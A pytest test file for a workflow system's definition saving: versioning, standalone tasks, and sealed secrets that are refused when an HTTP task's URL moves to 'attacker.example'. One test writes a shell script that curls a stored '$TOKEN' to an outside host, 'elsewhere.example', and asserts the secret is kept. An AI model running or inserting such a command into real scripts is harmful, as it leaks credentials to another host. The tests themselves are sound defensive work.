"""Saving definitions: atomic, versioned, with standalone tasks and sealed secrets."""

from __future__ import annotations

import copy

import pytest

from tests.conftest import example, machine
from workflows.definition import DefinitionError
from workflows.models import Node, Task, Team, Workflow, WorkflowVersion
from workflows.secrets import unseal
from workflows.services import task_save, workflow_delete, workflow_export, workflow_save_definition

pytestmark = pytest.mark.django_db


def save(document):
    return workflow_save_definition(document=copy.deepcopy(document), actor=machine())


def test_import_creates_team_tasks_graph_and_version_one():
    result = save(example("release-pipeline.json"))
    workflow = result.workflow
    assert result.created and result.version.number == 1
    assert workflow.team.name == "platform"
    assert Task.objects.filter(team=workflow.team).count() == 7
    assert Node.objects.filter(workflow=workflow).count() == 8
    assert workflow.edges.count() == 9


def test_export_then_import_is_the_identity_and_makes_no_new_version():
    first = save(example("end-of-day-cutover.json"))
    exported = workflow_export(workflow=first.workflow)
    second = save(exported)
    assert not second.changed and second.version.pk == first.version.pk
    assert workflow_export(workflow=second.workflow) == exported


def test_each_change_makes_a_new_numbered_version_and_old_ones_stay():
    document = example("release-pipeline.json")
    save(document)
    document["nodes"][0]["task"]["config"]["script"] = "echo changed"
    result = save(document)
    assert result.version.number == 2
    numbers = list(WorkflowVersion.objects.filter(workflow=result.workflow).values_list("number", flat=True))
    assert sorted(numbers) == [1, 2]
    v1 = WorkflowVersion.objects.get(workflow=result.workflow, number=1)
    assert v1.definition["nodes"][0]["task"]["config"]["script"] == "echo pulling; sleep 0.5"


def test_versions_are_immutable():
    version = save(example("release-pipeline.json")).version
    version.number = 99
    with pytest.raises(ValueError, match="immutable"):
        version.save()


def test_a_violation_saves_nothing_not_even_the_team():
    document = example("release-pipeline.json")
    document["team"] = "brand-new-team"
    document["edges"].append({"from": "build", "to": "build", "on": "success"})
    with pytest.raises(DefinitionError):
        save(document)
    assert not Team.objects.filter(name="brand-new-team").exists()
    assert not Task.objects.exists() and not Workflow.objects.exists()


def test_a_standalone_task_is_imported_by_name_and_released_when_removed():
    team = Team.objects.create(name="ops")
    Task.objects.create(
        team=team,
        name="backup",
        kind="shell",
        config={"script": "true"},
        trigger={"type": "cron", "expression": "0 0 1 * * ?", "timezone": "UTC"},
    )
    document = {
        "name": "nightly",
        "team": "ops",
        "nodes": [{"key": "b", "type": "task", "task": "backup"}],
        "edges": [{"from": "start", "to": "b"}],
    }
    workflow = save(document).workflow
    task = Task.objects.get(name="backup")
    assert task.workflow == workflow and task.trigger == {"type": "none"}
    assert workflow_export(workflow=workflow)["nodes"][0]["task"]["name"] == "backup"
    document["nodes"] = [
        {"key": "c", "type": "task", "task": {"name": "check", "kind": "shell", "config": {"script": "true"}}}
    ]
    document["edges"] = [{"from": "start", "to": "c"}]
    save(document)
    task.refresh_from_db()
    assert task.workflow is None and task.trigger == {"type": "none"}


def test_unknown_standalone_task_is_a_problem_naming_it():
    document = {
        "name": "w",
        "team": "ops",
        "nodes": [{"key": "b", "type": "task", "task": "nope"}],
        "edges": [{"from": "start", "to": "b"}],
    }
    with pytest.raises(DefinitionError, match="no task named 'nope'"):
        save(document)


def test_a_task_of_another_workflow_cannot_be_taken():
    save(example("release-pipeline.json"))
    document = {
        "name": "thief",
        "team": "platform",
        "nodes": [{"key": "p", "type": "task", "task": "shop-pull"}],
        "edges": [{"from": "start", "to": "p"}],
    }
    with pytest.raises(DefinitionError, match="already belongs to workflow 'release-pipeline'"):
        save(document)


def test_secrets_are_sealed_masked_on_export_and_kept_on_reimport():
    document = example("release-pipeline.json")
    document["nodes"][0]["task"]["config"]["env"] = {"TOKEN": {"secret": "s3cr3t-value"}, "MODE": "x"}
    workflow = save(document).workflow
    stored = Task.objects.get(name="shop-pull").config["env"]["TOKEN"]
    assert set(stored) == {"sealed"} and "s3cr3t-value" not in str(stored)
    assert "s3cr3t-value" not in str(WorkflowVersion.objects.get(workflow=workflow).definition)
    exported = workflow_export(workflow=workflow)
    assert exported["nodes"][0]["task"]["config"]["env"]["TOKEN"] == {"secret": "***"}
    result = save(exported)
    assert not result.changed
    assert Task.objects.get(name="shop-pull").config["env"]["TOKEN"] == stored


def http_task(url: str, token: object) -> dict:
    return {
        "name": "notify",
        "kind": "http",
        "config": {"method": "POST", "url": url, "headers": {"Authorization": token, "X-Plain": "p"}},
    }


@pytest.fixture
def stored_token():
    team = Team.objects.create(name="platform")
    task = task_save(
        document={**http_task("https://hooks.example/v1/notify", {"secret": "Bearer s3cr3t"}), "team": team.name},
        actor=machine(),
    )
    return team, task.config["headers"]["Authorization"]


@pytest.mark.parametrize(
    ("url", "moved"),
    [
        ("https://attacker.example/v1/notify", "https://hooks.example:443 to https://attacker.example:443"),
        ("http://hooks.example/v1/notify", "https://hooks.example:443 to http://hooks.example:80"),
        ("https://hooks.example:8443/v1/notify", "https://hooks.example:443 to https://hooks.example:8443"),
    ],
)
def test_a_kept_secret_is_refused_when_the_destination_changes(stored_token, url, moved):
    team, sealed = stored_token
    with pytest.raises(DefinitionError) as caught:
        task_save(document={**http_task(url, {"secret": "***"}), "team": team.name}, actor=machine())
    assert [str(p) for p in caught.value.problems] == [
        f"config.headers.Authorization: the destination changed from {moved}: enter this secret again"
    ]
    assert Task.objects.get(name="notify").config["headers"]["Authorization"] == sealed


@pytest.mark.parametrize("url", ["https://hooks.example/v2/other?x=1", "https://HOOKS.example:443/v1/notify"])
def test_a_kept_secret_stays_while_the_destination_is_the_same(stored_token, url):
    team, sealed = stored_token
    task = task_save(document={**http_task(url, {"secret": "***"}), "team": team.name}, actor=machine())
    assert task.config["headers"]["Authorization"] == sealed and task.config["url"] == url


def test_a_secret_written_again_goes_to_the_new_destination(stored_token):
    team, sealed = stored_token
    task = task_save(
        document={**http_task("https://other.example/", {"secret": "Bearer n3w"}), "team": team.name}, actor=machine()
    )
    assert task.config["headers"]["Authorization"] != sealed
    assert unseal(task.config)[1] == ["Bearer n3w"]


def test_a_workflow_s_http_task_follows_the_same_rule():
    document = example("release-pipeline.json")
    deploy = next(n for n in document["nodes"] if n["key"] == "deploy")
    deploy["task"] = {**http_task("https://deploy.internal/api/rollout", {"secret": "Bearer s3cr3t"}), "name": "deploy"}
    save(document)
    exported = workflow_export(workflow=Workflow.objects.get())
    index, deploy = next((i, n) for i, n in enumerate(exported["nodes"]) if n["key"] == "deploy")
    deploy["task"]["config"]["url"] = "https://attacker.example/rollout"
    with pytest.raises(DefinitionError) as caught:
        save(exported)
    (problem,) = caught.value.problems
    assert problem.path == f"nodes[{index}].task.config.headers.Authorization" and problem.nodes == ("deploy",)
    assert problem.message.startswith("the destination changed from https://deploy.internal:443 to")


def test_a_shell_task_keeps_its_env_secrets_when_its_script_changes():
    document = example("release-pipeline.json")
    document["nodes"][0]["task"]["config"]["env"] = {"TOKEN": {"secret": "s3cr3t-value"}}
    save(document)
    stored = Task.objects.get(name="shop-pull").config["env"]["TOKEN"]
    exported = workflow_export(workflow=Workflow.objects.get())
    exported["nodes"][0]["task"]["config"]["script"] = 'curl -H "X-Token: $TOKEN" https://elsewhere.example/'
    assert save(exported).changed
    assert Task.objects.get(name="shop-pull").config["env"]["TOKEN"] == stored


def test_masked_secret_without_a_stored_value_is_refused():
    document = example("release-pipeline.json")
    document["nodes"][0]["task"]["config"]["env"] = {"TOKEN": {"secret": "***"}}
    with pytest.raises(DefinitionError, match=r"env\.TOKEN.*no secret is stored"):
        save(document)


def test_delete_hides_the_workflow_and_releases_its_tasks():
    workflow = save(example("release-pipeline.json")).workflow
    workflow_delete(workflow=workflow, actor=machine())
    assert not Workflow.objects.alive().exists()
    assert Task.objects.filter(node__isnull=True).count() == 7
    save(example("release-pipeline.json"))  # the name is free again
